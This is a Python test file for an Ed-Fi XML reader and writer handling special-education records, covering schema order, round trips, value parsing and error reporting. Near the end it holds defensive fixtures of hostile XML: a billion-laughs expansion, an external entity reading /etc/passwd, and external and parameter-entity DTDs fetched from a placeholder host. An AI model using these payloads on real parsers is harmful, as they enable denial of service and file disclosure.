"""Ed-Fi XML interchange files: reading them into API bodies, writing bodies back."""

from __future__ import annotations

import functools
import io
import re
import sys
import xml.etree.ElementTree as ET
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import xmlschema
from hypothesis import given
from hypothesis import strategies as st

from edfi_helpers import hand_bodies, schema_errors
from iepmodel.interop.edfi import _xml
from iepmodel.interop.edfi._types import Problem, Record
from iepmodel.interop.edfi._xml import (
    ELEMENTS,
    XML_NAMESPACES,
    XmlUnavailableError,
    XmlWriteError,
    read_xml,
    to_xml,
    write_xml,
)

DATA = Path(__file__).parent / "data" / "edfi"
XSD = DATA / "xsd"
SAMPLES = DATA / "xml"
XS = "{http://www.w3.org/2001/XMLSchema}"
XSD_FILES = {
    "4.0": "ds-4.0.0-special-education.xsd",
    "5.2": "ds-5.2.0-special-education.xsd",
    "6.1": "ds-6.1.0-special-education.xsd",
}
SAMPLE_FILES = {
    "4.0": "ds-4.0-program-associations.xml",
    "5.2": "ds-5.2-program-and-eligibility.xml",
    "6.1": "ds-6.1-sedm.xml",
}
PROGRAM = "studentSpecialEducationProgramAssociations"


def read(data: bytes, version: str = "5.2", **options: Any) -> list[Record | Problem]:
    return list(read_xml(data, file="f.xml", version=version, **options))


def records(items: list[Record | Problem]) -> list[Record]:
    return [item for item in items if isinstance(item, Record)]


def problems(items: list[Record | Problem]) -> list[Problem]:
    return [item for item in items if isinstance(item, Problem)]


def sample(version: str) -> bytes:
    return (SAMPLES / SAMPLE_FILES[version]).read_bytes()


def by_resource(items: list[Record | Problem]) -> dict[str, list[Mapping[str, Any]]]:
    out: dict[str, list[Mapping[str, Any]]] = {}
    for record in records(items):
        assert record.resource is not None
        out.setdefault(record.resource, []).append(record.body)
    return out


def document(version: str, *records_xml: str) -> bytes:
    inner = "".join(records_xml)
    namespace = XML_NAMESPACES[version]
    root = f'<InterchangeStudentProgram xmlns="{namespace}">'
    return f"{root}{inner}</InterchangeStudentProgram>".encode()


STUDENT = (
    "<StudentReference><StudentIdentity><StudentUniqueId>S1</StudentUniqueId>"
    "</StudentIdentity></StudentReference>"
)
EDORG = (
    "<EducationOrganizationReference><EducationOrganizationIdentity>"
    "<EducationOrganizationId>255901</EducationOrganizationId>"
    "</EducationOrganizationIdentity></EducationOrganizationReference>"
)
PROGRAM_REF = (
    "<ProgramReference><ProgramIdentity>" + EDORG + "<ProgramName>Special Education</ProgramName>"
    "<ProgramType>uri://ed-fi.org/ProgramTypeDescriptor#Special Education</ProgramType>"
    "</ProgramIdentity></ProgramReference>"
)


def association(*extra: str, begin: str = "2025-08-20") -> str:
    return (
        "<StudentSpecialEducationProgramAssociation>"
        + STUDENT
        + PROGRAM_REF
        + f"<BeginDate>{begin}</BeginDate>"
        + EDORG
        + "".join(extra)
        + "</StudentSpecialEducationProgramAssociation>"
    )


# --- the XSD: each version's element sequences ----------------------------------------------


def xsd_types(version: str) -> dict[str, ET.Element]:
    tree = ET.parse(XSD / XSD_FILES[version])
    return {
        node.get("name", ""): node for node in tree.getroot() if node.tag == f"{XS}complexType"
    }


def xsd_sequence(types: dict[str, ET.Element], name: str) -> list[str]:
    """The element names of complex type *name*, its base type's first (xs:extension)."""
    node = types[name]
    names: list[str] = []
    extension = node.find(f"{XS}complexContent/{XS}extension")
    if extension is not None:
        base = extension.get("base", "")
        if base in types and base != "ComplexObjectType":
            names += xsd_sequence(types, base)
        node = extension
    sequence = node.find(f"{XS}sequence")
    assert sequence is not None
    names += [element.get("name", "") for element in sequence.iter(f"{XS}element")]
    return names


def table_types(version: str) -> Iterator[_xml._Type]:
    """The complex types of the table that *version*'s entities use."""
    seen: set[int] = set()
    stack = [entity.type for entity in _xml._ENTITIES if version in entity.versions]
    while stack:
        type_ = stack.pop()
        if id(type_) in seen:
            continue
        seen.add(id(type_))
        yield type_
        stack += [
            field.type
            for field in type_.fields
            if field.type is not None and version in field.versions
        ]


def table_sequence(type_: _xml._Type, version: str) -> list[str]:
    return [field.xml for field in type_.fields if version in field.versions]


@pytest.mark.parametrize("version", sorted(XSD_FILES))
def test_the_element_table_matches_each_versions_xsd(version: str) -> None:
    types = xsd_types(version)
    checked = set()
    for type_ in table_types(version):
        if type_.identity is not None:
            continue  # reference identities are not in the extracts
        assert table_sequence(type_, version) == xsd_sequence(types, type_.name), type_.name
        checked.add(type_.name)
    # Every entity and common type of the extract is in the table.
    assert checked == set(types) - {
        "GeneralStudentProgramAssociation",
        "ComplexObjectType",
        "StudentSection504ProgramAssociation",
        *(name for name in types if name.endswith("ReferenceType")),
    }


def test_participation_status_of_4_0_has_the_same_elements_as_the_repeated_one() -> None:
    types = xsd_types("4.0")
    assert xsd_sequence(types, "ParticipationStatus") == xsd_sequence(
        types, "ProgramParticipationStatus"
    )


def test_elements_name_the_api_resources() -> None:
    from iepmodel.interop.edfi._types import RESOURCES

    assert {RESOURCES[resource]: resource for resource in ELEMENTS.values()} == ELEMENTS


# --- reading the samples --------------------------------------------------------------------


def test_reads_a_4_0_program_association_into_its_api_body() -> None:
    items = read(sample("4.0"), "4.0")
    assert problems(items) == []
    first, second = records(items)
    assert (first.resource, first.file, first.record) == (PROGRAM, "f.xml", 1)
    assert second.record == 2
    assert first.body == {
        "studentReference": {"studentUniqueId": "604822"},
        "programReference": {
            "educationOrganizationId": 255901,
            "programName": "Special Education",
            "programTypeDescriptor": "uri://ed-fi.org/ProgramTypeDescriptor#Special Education",
        },
        "beginDate": "2021-08-23",
        "educationOrganizationReference": {"educationOrganizationId": 255901},
        "servedOutsideOfRegularSession": False,
        "participationStatus": {
            "participationStatusDescriptor": "uri://ed-fi.org/ParticipationStatusDescriptor#Active",
            "statusBeginDate": "2021-08-23",
        },
        "ideaEligibility": True,
        "specialEducationSettingDescriptor": (
            "uri://ed-fi.org/SpecialEducationSettingDescriptor#"
            "Inside regular class 80% or more of the day"
        ),
        "serviceProviders": [
            {"staffReference": {"staffUniqueId": "207219"}, "primaryProvider": True}
        ],
        "specialEducationHoursPerWeek": 5.5,
        "schoolHoursPerWeek": 32.5,
        "multiplyDisabled": False,
        "medicallyFragile": False,
        "lastEvaluationDate": "2021-05-14",
        "iepReviewDate": "2022-05-10",
        "iepBeginDate": "2021-08-23",
        "iepEndDate": "2022-05-20",
        "disabilities": [
            {
                "disabilityDescriptor": (
                    "uri://ed-fi.org/DisabilityDescriptor#Specific Learning Disability"
                ),
                "orderOfDisability": 1,
                "disabilityDeterminationSourceTypeDescriptor": (
                    "uri://ed-fi.org/DisabilityDeterminationSourceTypeDescriptor#"
                    "By health care provider"
                ),
                "designations": [
                    {
                        "disabilityDesignationDescriptor": (
                            "uri://ed-fi.org/DisabilityDesignationDescriptor#"
                            "Individuals with Disabilities Education Act"
                        )
                    }
                ],
            },
            {
                "disabilityDescriptor": (
                    "uri://ed-fi.org/DisabilityDescriptor#Speech or Language Impairment"
                ),
                "orderOfDisability": 2,
            },
        ],
        "specialEducationProgramServices": [
            {
                "specialEducationProgramServiceDescriptor": (
                    "uri://ed-fi.org/SpecialEducationProgramServiceDescriptor#"
                    "Speech-Language And Audiology Services"
                ),
                "primaryIndicator": False,
                "serviceBeginDate": "2021-08-23",
                "serviceEndDate": "2022-05-20",
                "providers": [
                    {"staffReference": {"staffUniqueId": "207220"}, "primaryProvider": True}
                ],
            }
        ],
    }


def test_reads_a_5_2_file_and_skips_another_program_with_a_warning() -> None:
    items = read(sample("5.2"), "5.2")
    association_, eligibility = records(items)
    assert association_.body["shortenedSchoolDayIndicator"] is True
    assert association_.body["reductionInHoursPerWeekComparedToPeers"] == 2.5
    assert association_.body["programParticipationStatuses"][0]["designatedBy"] == "ARD committee"
    assert eligibility.resource == "studentSpecialEducationProgramEligibilityAssociations"
    assert (
        eligibility.body["ideaPartDescriptor"] == "uri://ed-fi.org/IDEAPartDescriptor#IDEA Part B"
    )
    assert eligibility.body["evaluationDelayDays"] == 0
    assert eligibility.body["ideaIndicator"] is True
    (skipped,) = problems(items)
    assert (skipped.record, skipped.severity) == (3, "warning")
    assert "StudentProgramAssociation" in skipped.message


def test_reads_the_6_1_special_education_data_model() -> None:
    items = read(sample("6.1"), "6.1")
    assert problems(items) == []
    resources = [record.resource for record in records(items)]
    assert resources == [
        PROGRAM,
        "ideaEvents",
        "studentIEPs",
        "studentIEPGoals",
        "studentIEPServicePrescriptions",
        "studentIEPServiceDeliveries",
    ]
    iep, goal, prescription, delivery = (record.body for record in records(items)[2:])
    accommodation = "uri://ed-fi.org/AccommodationDescriptor#"
    assert iep["accommodations"] == [
        {"accommodationDescriptor": accommodation + "Test administration accommodation"},
        {"accommodationDescriptor": accommodation + "Settings accommodation"},
    ]
    assert iep["ideaEvents"][0]["ideaEventReference"] == {
        "studentUniqueId": "604900",
        "educationOrganizationId": 255901,
        "ideaEventIdentifier": "EV-604900-1",
        "ideaEventTypeDescriptor": (
            "uri://ed-fi.org/IDEAEventTypeDescriptor#Parental Consent for Implementing IEP Given"
        ),
    }
    reference = {
        "studentUniqueId": "604900",
        "educationOrganizationId": 255901,
        "studentIEPIdentifier": "IEP-604900-2025",
        "iepFinalizedDate": "2025-09-15",
    }
    assert goal["studentIEPReference"] == reference
    assert goal["achievementPeriod"] == {"beginDate": "2025-09-15", "endDate": "2026-09-14"}
    assert (prescription["duration"], prescription["frequency"]) == (30, 2.0)
    assert prescription["staffs"] == [{"staffReference": {"staffUniqueId": "207330"}}]
    assert delivery["studentIEPServicePrescriptionReference"] == {
        **reference,
        "servicePrescriptionDescriptor": (
            "uri://ed-fi.org/ServicePrescriptionDescriptor#Speech and Language (Special Education)"
        ),
        "servicePrescriptionDate": "2025-09-15",
    }
    assert delivery["providers"][0]["staffReference"] == {"staffUniqueId": "207330"}


@pytest.mark.parametrize("version", ["5.2", "6.1"])
def test_bodies_read_from_the_samples_meet_the_official_json_schemas(version: str) -> None:
    assert schema_errors(version, by_resource(read(sample(version), version))) == []


def test_a_student_gives_its_id_and_birth_date_only() -> None:
    data = document(
        "5.2",
        "<Student><StudentUniqueId>604822</StudentUniqueId><Name><FirstName>Jordan</FirstName>"
        "</Name><BirthData><BirthDate>2014-03-02</BirthDate><BirthCity>Austin</BirthCity>"
        "</BirthData></Student>",
        "<Student><StudentUniqueId>604823</StudentUniqueId><FirstName>Sam</FirstName>"
        "<BirthDate>2015-11-30</BirthDate></Student>",
        "<Student><StudentUniqueId>604824</StudentUniqueId><BirthDate>2015-02-30</BirthDate>"
        "</Student>",
    )
    items = read(data)
    assert [(record.resource, record.body) for record in records(items)] == [
        ("students", {"studentUniqueId": "604822", "birthDate": "2014-03-02"}),
        ("students", {"studentUniqueId": "604823", "birthDate": "2015-11-30"}),
    ]
    (problem,) = problems(items)
    assert (problem.record, problem.path, problem.severity) == (3, "birthDate", "error")


# --- round trips ----------------------------------------------------------------------------


HAND_WRITTEN = {"ds-5": "5.1", "ds-5.2": "5.2", "ds-6.1": "6.1"}
SHORT_NAMES = {
    "program": PROGRAM,
    "eligibility": "studentSpecialEducationProgramEligibilityAssociations",
}


@pytest.mark.parametrize("name", sorted(HAND_WRITTEN))
def test_the_mappings_hand_written_api_bodies_survive_xml(name: str) -> None:
    version = HAND_WRITTEN[name]
    bodies = {
        SHORT_NAMES.get(key, key): value
        for key, value in hand_bodies(name).items()
        if key not in ("about", "bad", "students")
    }
    items = read(to_xml(bodies, version=version), version)
    assert problems(items) == []
    assert by_resource(items) == bodies


def child_names(element: ET.Element) -> list[str]:
    return [child.tag.rpartition("}")[2] for child in element]


def is_in_order(names: list[str], order: list[str]) -> bool:
    """Whether *names* follow *order* (repeats together, nothing unknown)."""
    position = 0
    for name in names:
        if name not in order[position:]:
            return False
        position = order.index(name, position)
    return True


@pytest.mark.parametrize("version", sorted(SAMPLE_FILES))
def test_xml_to_bodies_to_xml_round_trips(version: str) -> None:
    bodies = by_resource(read(sample(version), version))
    written = to_xml(bodies, version=version)
    again = read(written, version)
    assert problems(again) == []
    assert by_resource(again) == bodies
    # Writing is deterministic: the same bodies, the same bytes.
    assert to_xml(by_resource(again), version=version) == written


@pytest.mark.parametrize("version", sorted(SAMPLE_FILES))
def test_written_xml_follows_the_xsd_element_order(version: str) -> None:
    types = xsd_types(version)
    root = ET.fromstring(to_xml(by_resource(read(sample(version), version)), version=version))
    assert root.tag == f"{{{XML_NAMESPACES[version]}}}InterchangeStudentProgram"
    for record in root:
        name = record.tag.rpartition("}")[2]
        assert is_in_order(child_names(record), xsd_sequence(types, name)), name
        for child in record:
            child_name = child.tag.rpartition("}")[2]
            if child_name in ("Disability", "SpecialEducationProgramService", "ServiceProvider"):
                assert is_in_order(child_names(child), xsd_sequence(types, child_name))


def test_bodies_are_written_in_dependency_order_whatever_the_mapping_order() -> None:
    bodies = by_resource(read(sample("6.1"), "6.1"))
    reordered = dict(reversed(list(bodies.items())))
    assert to_xml(reordered, version="6.1") == to_xml(bodies, version="6.1")


def test_write_xml_returns_the_count_and_writes_utf8() -> None:
    body = dict(records(read(sample("4.0"), "4.0"))[1].body)
    body["studentReference"] = {"studentUniqueId": "Ünïcode-1"}
    stream = io.BytesIO()
    assert write_xml(stream, {PROGRAM: [body, body]}, version="4.0") == 2
    text = stream.getvalue().decode("utf-8")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    assert "Ünïcode-1" in text
    assert by_resource(read(stream.getvalue(), "4.0"))[PROGRAM] == [body, body]


# Bodies drawn from the element table itself: every element of every version.
_TEXT = st.from_regex(
    r"[A-Za-z0-9é&<>'\"]([A-Za-z0-9 é&<>'\"\r\n\t-]{0,10}[A-Za-z0-9é&<>])?", fullmatch=True
)


def _value(field: _xml._Field, version: str) -> st.SearchStrategy[Any]:
    kind = field.kind
    if field.type is not None:
        return _object(field.type, version, flatten=field.kind == "reference")
    if kind == "string":
        return _TEXT
    if kind == "descriptor":
        return _TEXT.map(lambda text: f"uri://ed-fi.org/{field.descriptor}#{text}")
    if kind == "bool":
        return st.booleans()
    if kind == "date":
        return st.dates().map(lambda day: day.isoformat())
    if kind == "int":
        return st.integers(-(2**31), 2**31 - 1)
    if kind == "long":
        return st.integers(0, 2**63 - 1)
    # Decimals: two fraction digits, within the XSD's total digits.
    top = 10 ** (field.digits - 2) - 1
    return st.integers(0, top * 100 + 99).map(lambda cents: cents / 100)


def _object(
    type_: _xml._Type, version: str, *, flatten: bool
) -> st.SearchStrategy[dict[str, Any]]:
    required: dict[str, st.SearchStrategy[Any]] = {}
    optional: dict[str, st.SearchStrategy[Any]] = {}
    for field in type_.fields:
        if version not in field.versions:
            continue
        if field.kind == "identity":
            assert field.type is not None
            for inner in field.type.fields:
                if inner.kind == "identity":
                    assert inner.type is not None
                    required |= {f.json: _value(f, version) for f in inner.type.fields}
                else:
                    required[inner.json] = _value(inner, version)
            continue
        value = _value(field, version)
        if field.many:
            wrapped = value.map(lambda v, key=field.item: {key: v}) if field.item else value
            optional[field.json] = st.lists(wrapped, min_size=1, max_size=2)
        elif flatten:
            required[field.json] = value
        else:
            optional[field.json] = value
    return st.fixed_dictionaries(required, optional=optional)


@st.composite
def documents(draw: st.DrawFn) -> tuple[str, dict[str, list[dict[str, Any]]]]:
    version = draw(st.sampled_from(sorted(XML_NAMESPACES)))
    entities = [entity for entity in _xml._ENTITIES if version in entity.versions]
    resources: dict[str, list[dict[str, Any]]] = {}
    for entity in draw(st.lists(st.sampled_from(entities), min_size=1, max_size=3, unique=True)):
        body = _object(entity.type, version, flatten=False)
        resources[entity.resource] = draw(st.lists(body, min_size=1, max_size=2))
    return version, resources


@given(documents())
def test_any_bodies_of_the_table_survive_bodies_to_xml_to_bodies(
    drawn: tuple[str, dict[str, list[dict[str, Any]]]],
) -> None:
    version, resources = drawn
    items = read(to_xml(resources, version=version), version)
    assert problems(items) == []
    back = by_resource(items)
    assert back == {
        entity.resource: resources[entity.resource]
        for entity in _xml._ENTITIES
        if entity.resource in resources
    }


# --- validation against the XSD: the extracts plus the reference types they leave out -------


SCHEMA_ENTITIES = {
    version: [entity.type.name for entity in _xml._ENTITIES if version in entity.versions]
    for version in XSD_FILES
}


@functools.cache
def interchange_schema(version: str) -> xmlschema.XMLSchema:
    """The version's extract, the reference types, and an interchange root element."""
    parts = [XSD / XSD_FILES[version], XSD / "reference-types.xsd"]
    if version == "6.1":
        parts.append(XSD / "sedm-reference-types.xsd")
    includes = "".join(f'<xs:include schemaLocation="{part.as_uri()}"/>' for part in parts)
    choice = "".join(
        f'<xs:element name="{name}" type="{name}"/>' for name in SCHEMA_ENTITIES[version]
    )
    # The 5.2 sample also holds another program's association (only its general elements).
    choice += (
        '<xs:element name="StudentProgramAssociation" type="GeneralStudentProgramAssociation"/>'
    )
    return xmlschema.XMLSchema(
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">{includes}'
        '<xs:element name="InterchangeStudentProgram"><xs:complexType>'
        f'<xs:choice minOccurs="0" maxOccurs="unbounded">{choice}</xs:choice>'
        "</xs:complexType></xs:element></xs:schema>"
    )


def xsd_errors(version: str, document: bytes) -> list[str]:
    """The XSD errors of *document* (the extracts have no target namespace: it is dropped)."""
    plain = re.sub(rb' xmlns="[^"]*"', b"", document, count=1)
    schema = interchange_schema(version)
    return [error.reason or str(error) for error in schema.iter_errors(plain.decode("utf-8"))]


@pytest.mark.parametrize("version", sorted(XSD_FILES))
def test_written_documents_validate_against_the_xsd(version: str) -> None:
    assert xsd_errors(version, sample(version)) == []
    written = to_xml(by_resource(read(sample(version), version)), version=version)
    assert xsd_errors(version, written) == []


@pytest.mark.parametrize("name", ["ds-5.2", "ds-6.1"])
def test_the_mappings_hand_written_bodies_written_as_xml_validate_against_the_xsd(
    name: str,
) -> None:
    version = HAND_WRITTEN[name]
    bodies = {
        SHORT_NAMES.get(key, key): value
        for key, value in hand_bodies(name).items()
        if key not in ("about", "bad", "students")
    }
    assert xsd_errors(version, to_xml(bodies, version=version)) == []


@pytest.mark.parametrize("version", ["4.0", "5.1", "5.2", "6.1"])
def test_the_sample_districts_export_written_as_xml_validates_against_the_xsd(
    version: str,
) -> None:
    from iepmodel import sample
    from iepmodel.interop.edfi import to_edfi

    resources = to_edfi(sample.plans()[:40], version=version, organization_id=255901).resources
    if version == "4.0":
        # DS 4.0 has no eligibility association (neither element nor descriptors).
        resources = {name: bodies for name, bodies in resources.items() if name == PROGRAM}
    written = to_xml(resources, version=version)
    # The 5.1 extract is not kept: 5.1 is 5.2 without two program association elements.
    assert xsd_errors("5.2" if version == "5.1" else version, written) == []
    assert by_resource(read(written, version)) == resources


def test_the_xsd_check_sees_a_misplaced_element() -> None:
    text = (
        sample("5.2")
        .replace(b"    <IdeaEligibility>1</IdeaEligibility>\n", b"")
        .replace(b"</BeginDate>", b"</BeginDate><IdeaEligibility>1</IdeaEligibility>", 1)
    )
    assert xsd_errors("5.2", text) != []


# --- values ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "value"), [("1", True), ("true", True), (" 0 ", False), ("false", False)]
)
def test_xml_booleans_are_booleans(text: str, value: bool) -> None:
    (record,) = records(
        read(document("5.2", association(f"<IdeaEligibility>{text}</IdeaEligibility>")))
    )
    assert record.body["ideaEligibility"] is value


def test_hours_are_numbers_and_are_written_with_two_decimals() -> None:
    data = document("5.2", association("<SchoolHoursPerWeek>32.5</SchoolHoursPerWeek>"))
    (record,) = records(read(data))
    assert record.body["schoolHoursPerWeek"] == 32.5
    assert b"<SchoolHoursPerWeek>32.50</SchoolHoursPerWeek>" in to_xml({PROGRAM: [record.body]})
    whole = dict(record.body, schoolHoursPerWeek=30)
    assert b"<SchoolHoursPerWeek>30.00</SchoolHoursPerWeek>" in to_xml({PROGRAM: [whole]})


def test_a_bare_code_value_becomes_a_descriptor_uri_in_the_namespace_given() -> None:
    data = document(
        "5.2",
        association(
            "<Disability><Disability>Autism</Disability>"
            "<DisabilityDesignation>Section 504</DisabilityDesignation></Disability>"
        ),
    )
    (record,) = records(read(data, namespace="uri://district.example/"))
    assert record.body["disabilities"] == [
        {
            "disabilityDescriptor": "uri://district.example/DisabilityDescriptor#Autism",
            "designations": [
                {
                    "disabilityDesignationDescriptor": (
                        "uri://district.example/DisabilityDesignationDescriptor#Section 504"
                    )
                }
            ],
        }
    ]


def test_a_date_with_a_time_zone_keeps_the_date_with_a_warning() -> None:
    items = read(document("5.2", association(begin="2025-08-20-05:00")))
    (record,) = records(items)
    assert record.body["beginDate"] == "2025-08-20"
    (warning,) = problems(items)
    assert (warning.path, warning.severity) == ("beginDate", "warning")


def test_whitespace_around_values_is_layout() -> None:
    data = document(
        "5.2",
        association(
            "<SpecialEducationExitExplained>\n    Moved, see notes\n  "
            "</SpecialEducationExitExplained>",
            begin="\n      2025-08-20\n    ",
        ).replace("<ProgramName>Special Education", "<ProgramName>\n  Special Education\n"),
    )
    (record,) = records(read(data))
    assert record.body["beginDate"] == "2025-08-20"
    assert record.body["programReference"]["programName"] == "Special Education"
    assert record.body["specialEducationExitExplained"] == "Moved, see notes"


def test_a_root_that_is_itself_a_record_is_read() -> None:
    items = read(association().encode())
    assert [record.record for record in records(items)] == [1]
    assert problems(items) == []


def test_a_file_without_a_namespace_is_read() -> None:
    data = (
        b"<InterchangeStudentProgram>" + association().encode() + b"</InterchangeStudentProgram>"
    )
    assert len(records(read(data))) == 1


def test_a_lookup_gives_the_identity_and_other_lookup_elements_are_left_with_a_warning() -> None:
    student = (
        "<StudentReference><StudentLookup><StudentUniqueId>S9</StudentUniqueId>"
        "<BirthData><BirthDate>2015-01-01</BirthDate></BirthData></StudentLookup></StudentReference>"
    )
    data = document(
        "5.2",
        "<StudentSpecialEducationProgramAssociation>"
        + student
        + PROGRAM_REF
        + "<BeginDate>2025-08-20</BeginDate>"
        + EDORG
        + "</StudentSpecialEducationProgramAssociation>",
    )
    items = read(data)
    (record,) = records(items)
    assert record.body["studentReference"] == {"studentUniqueId": "S9"}
    (warning,) = problems(items)
    assert (warning.path, warning.severity) == ("studentReference", "warning")
    assert "2015" not in warning.message


# --- what is wrong: reported, never echoed, the rest still read ------------------------------


SECRET = "Jordan-Private-2015"


@pytest.mark.parametrize(
    ("extra", "path"),
    [
        ("<IdeaEligibility>Jordan-Private-2015</IdeaEligibility>", "ideaEligibility"),
        ("<SchoolHoursPerWeek>Jordan-Private-2015</SchoolHoursPerWeek>", "schoolHoursPerWeek"),
        ("<IEPBeginDate>Jordan-Private-2015</IEPBeginDate>", "iepBeginDate"),
        ("<IEPBeginDate>2025-02-30</IEPBeginDate>", "iepBeginDate"),
        (
            "<Disability><Disability>x#y</Disability><OrderOfDisability>Jordan-Private-2015</OrderOfDisability></Disability>",
            "disabilities[0].orderOfDisability",
        ),
        ("<Disability><Disability/></Disability>", "disabilities[0].disabilityDescriptor"),
        ("<IEPEndDate>2025-01-01</IEPEndDate><IEPEndDate>2025-01-02</IEPEndDate>", "iepEndDate"),
        ("<SchoolHoursPerWeek><Hours>3</Hours></SchoolHoursPerWeek>", "schoolHoursPerWeek"),
    ],
)
def test_a_malformed_element_refuses_its_record_only(extra: str, path: str) -> None:
    data = document("5.2", association(), association(extra), association())
    items = read(data)
    assert [record.record for record in records(items)] == [1, 3]
    (problem,) = problems(items)
    assert (problem.file, problem.record, problem.path, problem.severity) == (
        "f.xml",
        2,
        path,
        "error",
    )
    assert SECRET not in problem.message


def test_an_unknown_element_is_left_out_with_a_warning_and_the_record_kept() -> None:
    items = read(document("5.2", association("<FavouriteColour>blue</FavouriteColour>")))
    (record,) = records(items)
    assert "FavouriteColour" not in str(record.body)
    (warning,) = problems(items)
    assert warning.severity == "warning"
    assert "FavouriteColour" in warning.message
    assert "blue" not in warning.message


def test_an_element_of_another_version_is_read_with_a_warning() -> None:
    items = read(document("5.2", association("<IEPReviewDueDate>2026-01-01</IEPReviewDueDate>")))
    (record,) = records(items)
    assert record.body["iepReviewDueDate"] == "2026-01-01"
    (warning,) = problems(items)
    assert (warning.path, warning.severity) == ("iepReviewDueDate", "warning")
    assert "5.2" in warning.message


def test_a_reference_by_xml_id_only_is_an_error() -> None:
    data = document(
        "5.2",
        association().replace(STUDENT, '<StudentReference ref="STU-1"/>'),
    )
    items = read(data)
    assert records(items) == []
    (problem,) = problems(items)
    assert problem.path == "studentReference"
    assert "identity" in problem.message


def test_text_where_elements_are_expected_is_an_error() -> None:
    items = read(
        document("5.2", association("<ServiceProvider>Jordan-Private-2015</ServiceProvider>"))
    )
    assert records(items) == []
    assert SECRET not in problems(items)[0].message


def test_broken_xml_keeps_the_records_before_it() -> None:
    data = document("5.2", association(), association()).replace(
        b"</InterchangeStudentProgram>", b"<StudentSpecialEducationProgramAssociation>"
    )
    items = read(data)
    assert [record.record for record in records(items)] == [1, 2]
    problem = problems(items)[-1]
    assert (problem.record, problem.path, problem.severity) == (None, "", "error")
    assert "not well-formed" in problem.message
    assert "2 record(s) before it were read" in problem.message


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<InterchangeStudentProgram>&lol4;</InterchangeStudentProgram>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<InterchangeStudentProgram><StudentSpecialEducationProgramAssociation>&secret;</StudentSpecialEducationProgramAssociation></InterchangeStudentProgram>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE InterchangeStudentProgram SYSTEM "http://example.invalid/interchange.dtd">
<InterchangeStudentProgram/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<InterchangeStudentProgram/>"""
HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_with_one_clear_problem(name: str) -> None:
    items = list(read_xml(HOSTILE[name], file="evil.xml"))
    (problem,) = items
    assert isinstance(problem, Problem)
    assert (problem.file, problem.record, problem.severity) == ("evil.xml", None, "error")
    assert problem.message.startswith("refused as unsafe XML")
    assert "passwd" not in problem.message
    assert "example.invalid" not in problem.message


def test_hostile_xml_in_entities_without_a_dtd_is_not_well_formed() -> None:
    (problem,) = read(b"<InterchangeStudentProgram>&lol;</InterchangeStudentProgram>")
    assert isinstance(problem, Problem)
    assert "not well-formed" in problem.message


def test_reading_streams_a_large_file() -> None:
    data = document("5.2", *([association()] * 2000))
    count = sum(
        1 for item in read_xml(io.BytesIO(data), file="big.xml") if isinstance(item, Record)
    )
    assert count == 2000


def test_reading_without_defusedxml_says_how_to_install_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(sys.modules, "defusedxml.ElementTree", None)
    with pytest.raises(XmlUnavailableError, match=r"pip install 'iepmodel\[edfi\]'"):
        read(association().encode())


def test_an_unknown_version_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown Ed-Fi version"):
        read(association().encode(), "9.9")
    with pytest.raises(ValueError, match="unknown Ed-Fi version"):
        to_xml({}, version="9.9")


# --- writing what XML cannot hold -----------------------------------------------------------


def body_4_0() -> dict[str, Any]:
    return dict(records(read(sample("4.0"), "4.0"))[1].body)


@pytest.mark.parametrize(
    ("change", "path"),
    [
        ({"favouriteColour": SECRET}, "favouriteColour"),
        ({"ideaEligibility": SECRET}, "ideaEligibility"),
        ({"schoolHoursPerWeek": SECRET}, "schoolHoursPerWeek"),
        ({"schoolHoursPerWeek": 1e9}, "schoolHoursPerWeek"),
        ({"iepBeginDate": SECRET}, "iepBeginDate"),
        ({"disabilities": SECRET}, "disabilities"),
        ({"disabilities": [{"disabilityDescriptor": 3}]}, "disabilities[0].disabilityDescriptor"),
        ({"studentReference": {"studentUniqueId": "S1", "name": SECRET}}, "studentReference.name"),
        ({"specialEducationExitDate": "2025-01-01"}, "specialEducationExitDate"),
    ],
)
def test_a_body_the_version_cannot_hold_is_refused_naming_the_path(
    change: dict[str, Any], path: str
) -> None:
    body = body_4_0() | change
    with pytest.raises(XmlWriteError) as caught:
        to_xml({PROGRAM: [body_4_0(), body]}, version="4.0")
    assert str(caught.value).startswith(f"{PROGRAM}[1]: {path}: ")
    assert SECRET not in str(caught.value)


def test_carriage_returns_survive_and_control_characters_are_refused() -> None:
    body = body_4_0() | {"specialEducationSettingDescriptor": "uri://x/S#a\r\nb"}
    (record,) = records(read(to_xml({PROGRAM: [body]}, version="4.0"), "4.0"))
    assert record.body == body
    with pytest.raises(XmlWriteError, match="control character"):
        to_xml({PROGRAM: [body | {"programReference": {"programName": "a\x00"}}]}, version="4.0")


def test_a_resource_not_of_the_version_or_unknown_is_refused() -> None:
    iep = by_resource(read(sample("6.1"), "6.1"))["studentIEPs"]
    with pytest.raises(XmlWriteError, match=r"studentIEPs: not part of Ed-Fi 5\.2"):
        to_xml({"studentIEPs": iep}, version="5.2")
    with pytest.raises(XmlWriteError, match="students: not a resource"):
        to_xml({"students": [{}]}, version="5.2")
